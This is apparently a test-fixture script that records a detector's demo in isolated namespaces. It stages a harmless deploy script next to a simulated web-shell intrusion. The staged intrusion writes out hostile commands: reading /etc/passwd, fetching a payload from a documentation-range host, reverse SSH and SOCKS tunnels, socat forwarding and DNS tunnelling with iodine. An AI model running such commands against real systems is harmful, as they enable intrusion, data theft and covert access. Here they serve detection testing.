#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Makes Recordings/tunnels.ndjson.zst: what `swiftlet watch --events` sees of a short play, in
# namespaces of its own with a host name, accounts and addresses made for it. Needs root; changes
# nothing on the host. Programs that Debian does not have are stand-ins: /bin/true under their name.
set -euo pipefail
cd "$(dirname "$0")/.."

if [ "${1:-}" != "--inside" ]; then
  [ "$(id -u)" = 0 ] || { echo "record-demo: run as root" >&2; exit 1; }
  exec env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin LANG=C.UTF-8 unshare --mount --uts --net bash "$0" --inside
fi

swiftlet=$PWD/.build/release/swiftlet
output=$PWD/Recordings/tunnels.ndjson.zst
filter=$PWD/Scripts/descendants.py
mount --make-rprivate /
work=$(mktemp -d)
stop() { rm -rf "$work"; }
trap stop EXIT

hostname web1
ip link set lo up
ip link add eth0 type veth peer name far0
ip addr add 10.0.0.5/24 dev eth0
ip link set eth0 up
ip link set far0 up
echo 0123456789abcdef0123456789abcdef > "$work/machine-id"
printf '%s\n' root:x:0:0:root:/root:/bin/bash www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin \
  deploy:x:1000:1000::/srv/deploy:/bin/bash > "$work/passwd"
printf '%s\n' root:x:0: www-data:x:33: deploy:x:1000: > "$work/group"
mount --bind "$work/machine-id" /etc/machine-id
mount --bind "$work/passwd" /etc/passwd
mount --bind "$work/group" /etc/group
mount -t tmpfs tmpfs /srv
mkdir -p /srv/deploy/site /srv/www/.cache
for name in kworker gost; do cp /bin/true "/srv/www/.cache/$name"; done
echo ok > /srv/deploy/site/index.html
chown -R 1000:1000 /srv/deploy
chown -R 33:33 /srv/www

cat > /srv/deploy/release.sh <<'PLAY'
#!/bin/sh
cd /srv/deploy
tar -czf site.tar.gz site
sha256sum site.tar.gz
ls -lR site
find site -name '*.html' -newer site.tar.gz
ssh -o BatchMode=yes -o ConnectTimeout=1 deploy@10.0.0.9 uptime
socat -V
curl -s -m 1 http://127.0.0.1/health
python3 -c 'import subprocess; subprocess.run(["ssh", "-N", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-L", "5432:127.0.0.1:5432", "deploy@10.0.0.9"])'
gzip -dc site.tar.gz | wc -c
PLAY
cat > /srv/www/app.pl <<'PLAY'
system("/bin/sh", "-c", "id; uname -a");
system("/bin/bash", "-c", "cd /srv/www/.cache; . ../.x; :");
PLAY
cat > /srv/www/.x <<'PLAY'
cat /etc/passwd
ss -ltn
curl -s -m 1 http://203.0.113.10/k -o k
chmod 700 kworker
socat TCP4-LISTEN:8443,fork,reuseaddr TCP4:10.0.0.9:22 &
listener=$!
ssh -o BatchMode=yes -o ConnectTimeout=1 -f -N -R 9000:127.0.0.1:22 relay@203.0.113.10
./kworker -s rssocks -d 203.0.113.10 -e 8888
./gost -L=socks5://:1080
proxychains4 -q curl -m 1 http://10.0.0.9/
iodine -f -P x tunnel.example.net
kill $listener
PLAY
cat > /srv/play.sh <<'PLAY'
#!/bin/sh
setpriv --reuid=1000 --regid=1000 --clear-groups sh /srv/deploy/release.sh
setpriv --reuid=33 --regid=33 --clear-groups perl /srv/www/app.pl
setpriv --reuid=1000 --regid=1000 --clear-groups sh /srv/deploy/release.sh
PLAY

(cd / && exec "$swiftlet" watch --events "$work/raw.ndjson" --jsonl) > "$work/alerts" 2> "$work/messages" &
watcher=$!
for _ in $(seq 100); do
  grep -q '^ready:' "$work/messages" && break
  sleep 0.1
done
(cd / && exec setsid sh /srv/play.sh) > /dev/null 2>&1 < /dev/null || true
sleep 0.5
kill -INT "$watcher"
wait "$watcher" || true
cat "$work/messages"
# Only what the play did: other programs of the machine are nobody's business.
/usr/bin/python3 "$filter" /srv/play.sh < "$work/raw.ndjson" > "$work/play.ndjson"
zstd -q -19 -f "$work/play.ndjson" -o "$output"
wc -l "$work/play.ndjson"
